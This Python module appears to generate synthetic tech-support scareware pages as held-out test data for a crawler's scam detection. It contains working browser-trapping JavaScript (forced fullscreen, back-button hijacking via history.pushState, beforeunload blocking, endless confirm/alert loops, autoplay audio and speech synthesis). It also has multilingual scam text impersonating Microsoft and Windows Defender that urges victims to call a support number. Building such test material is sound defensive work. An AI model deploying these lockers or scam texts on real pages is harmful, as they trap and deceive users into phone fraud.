"""Scareware / browser-locker templates of the held-out web.

Real lockers are one hostile page: a fake system dialog over a fake desktop or scan,
inline scripts that go fullscreen, trap the back button (history.pushState), fire
alert/confirm loops and beforeunload prompts, and an <audio autoplay> voice. The
number is in the dialog, often also in the title. The scripts are inert text in the
sandbox: the crawler and the review UI must never run them.
"""

from __future__ import annotations

from random import Random

from crawler.sandbox.heldout import themes
from crawler.sandbox.heldout.numbers import write
from crawler.sandbox.heldout.phrases import pick
from crawler.sandbox.heldout.sheet import Sheet, esc
from crawler.sandbox.heldout.spec import Drafts, Spec

TRAP_JS = """<script>
  document.addEventListener('click', function () {
    var d = document.documentElement;
    (d.requestFullscreen || d.webkitRequestFullscreen || function () {}).call(d);
  });
  window.addEventListener('beforeunload', function (e) { e.preventDefault(); e.returnValue = ''; });
  for (var i = 0; i < 40; i++) { history.pushState({locked: i}, '', location.href); }
  window.onpopstate = function () { history.pushState({}, '', location.href); };
</script>"""


def _loop_js(message: str) -> str:
    return (
        "<script>\n  var msg = " + repr(message).replace("'", '"') + ";\n"
        "  setInterval(function () { if (!confirm(msg)) { alert(msg); } }, 4000);\n</script>"
    )


def _audio(src: str) -> str:
    return f'<audio id="warn" autoplay loop><source src="{src}" type="audio/mpeg"></audio>'


# --- 11. "Windows Defender Security Warning" over a fake desktop ------------------------


def defender_warning(spec: Spec, rng: Random) -> Drafts:
    number = spec.phones[0]
    s = Sheet()
    s.brand(*spec.brands, "facebook")  # the dialog lists "Facebook login" among stolen data
    shown = s.num(number, spec.opt("style", "us_dash"))
    code = spec.opt("code", "0x800VDS")
    body = (
        '<div class="desktop"><div class="taskbar"></div>'
        '<div class="dialog" role="alertdialog"><div class="titlebar">Windows Defender - Security Warning</div>'
        f"<h2>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</h2>"
        "<p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised:</p>"
        "<ul><li>Email credentials</li><li>Banking passwords</li><li>Facebook login</li><li>Pictures &amp; documents</li></ul>"
        "<p>Windows Defender Scan has found potentially unwanted Adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p>"
        f"<p>You must contact us immediately so that our engineers can walk you through the removal process over the phone.</p>"
        f'<p class="err">Error code: {esc(code)}</p>'
        f'<p class="call">Call Microsoft Support: <b>{shown}</b> (Toll Free)</p>'
        '<p class="warn">Do not restart your computer. Closing this page may result in your computer access being disabled to prevent further damage to our network.</p>'
        '<div class="buttons"><button>Deny</button><button class="ok">Allow</button></div></div></div>'
    )
    title_no = write(number, spec.opt("style", "us_dash"))
    body += (
        _audio("/media/alert-en.mp3")
        + TRAP_JS
        + _loop_js(f"Windows Security Alert! Call Microsoft Support {title_no}")
    )
    parts = themes.Parts("en", f"Security Warning! Call {title_no}", "Windows Defender", body)
    css = "body{background:#0a64ad;margin:0;cursor:none}.dialog{width:620px;margin:8vh auto;background:#fff;border:1px solid #333}.titlebar{background:#1e1e1e;color:#fff;padding:6px}"
    drafts: Drafts = {"/": (themes.plain(parts, css), s)}
    for path in spec.opt("extra_paths", []):
        drafts[path] = drafts["/"]
    return drafts


# --- 12. "Uw computer is geblokkeerd": fake browser frame with a scan table -------------


def blocked_scan(spec: Spec, rng: Random) -> Drafts:
    title, h1, lead, call, warn, threats, found, code_label = pick(
        "blocked_scan",
        spec.lang,
        "title",
        "h1",
        "lead",
        "call",
        "warn",
        "threats",
        "found",
        "code_label",
    )
    number = spec.phones[0]
    s = Sheet()
    s.brand(*spec.brands)
    shown = s.num(number, spec.opt("style", "national"))
    code = spec.opt("code", "0x80070424")
    rows = "".join(
        f"<tr><td>{esc(t)}</td><td class='red'>{'Hoog' if spec.lang == 'nl' else 'Hoch' if spec.lang == 'de' else 'Élevé'}</td></tr>"
        for t in threats
    )
    body = (
        '<div class="fakebrowser"><div class="addressbar"><span class="lock">🔒</span> https://www.microsoft.com/security/scan</div>'
        f'<div class="scan"><div class="progress"><div class="fill" style="width:87%"></div></div><table class="threats"><caption>{esc(found)}</caption>{rows}</table></div>'
        f'<div class="overlay"><h1>{esc(h1)}</h1><p>{esc(lead)}</p><p class="code">{esc(code_label)}: {esc(code)}</p>'
        f'<p class="call">{esc(call)} <strong>{shown}</strong></p><p class="warn">{esc(warn)}</p></div></div>'
    )
    title_no = write(number, spec.opt("style", "national"))
    body += _audio(f"/media/alarm-{spec.lang}.mp3") + TRAP_JS + _loop_js(f"{h1} {call} {title_no}")
    parts = themes.Parts(spec.lang, f"{title} – {title_no}", "Windows", body)
    css = "body{margin:0;background:#000}.overlay{position:fixed;top:10%;left:15%;right:15%;background:#c00;color:#fff;padding:2em}.red{color:#c00}"
    return {"/": (themes.plain(parts, css), s)}


# --- 13. Japanese scareware: fake "virus detected" toast stack with speech synthesis ------


def ja_warning(spec: Spec, rng: Random) -> Drafts:
    number = spec.phones[0]
    s = Sheet()
    s.brand(*spec.brands)
    shown = s.num(number, spec.opt("style", "dashed"))
    code = spec.opt("code", "0x8024402c")
    toasts = "".join(
        f'<div class="toast"><b>Windows セキュリティ</b><p>{esc(t)}</p></div>'
        for t in (
            "ウイルスが検出されました",
            "個人情報が流出しています",
            "コンピューターがロックされました",
        )
    )
    body = (
        f'<div class="stack">{toasts}</div><div class="main-dialog"><h1>Windows のセキュリティ警告</h1>'
        "<p>お使いのコンピューターはトロイの木馬型スパイウェアに感染しています。クレジットカード情報、パスワード、写真が盗まれる恐れがあります。</p>"
        f'<p>エラーコード: {esc(code)}</p><p class="tel">サポートへお電話ください: <strong>{shown}</strong>（通話無料）</p>'
        "<p>このページを閉じたり、パソコンを再起動しないでください。</p></div>"
        "<script>\n  var u = new SpeechSynthesisUtterance('警告。お使いのパソコンはウイルスに感染しています。今すぐサポートに電話してください。');\n"
        "  u.lang = 'ja-JP'; setInterval(function () { speechSynthesis.speak(u); }, 9000);\n</script>"
    )
    body += (
        _audio("/media/keikoku.mp3")
        + TRAP_JS
        + _loop_js("ウイルスが検出されました。サポートに電話してください。")
    )
    parts = themes.Parts(
        "ja", "Windows セキュリティ警告 - サポートに連絡してください", "Windows", body
    )
    css = "body{background:#0078d7;color:#fff;font-family:'Meiryo',sans-serif}.toast{background:#1f1f1f;padding:10px;margin:6px;width:340px}"
    return {"/": (themes.plain(parts, css), s)}
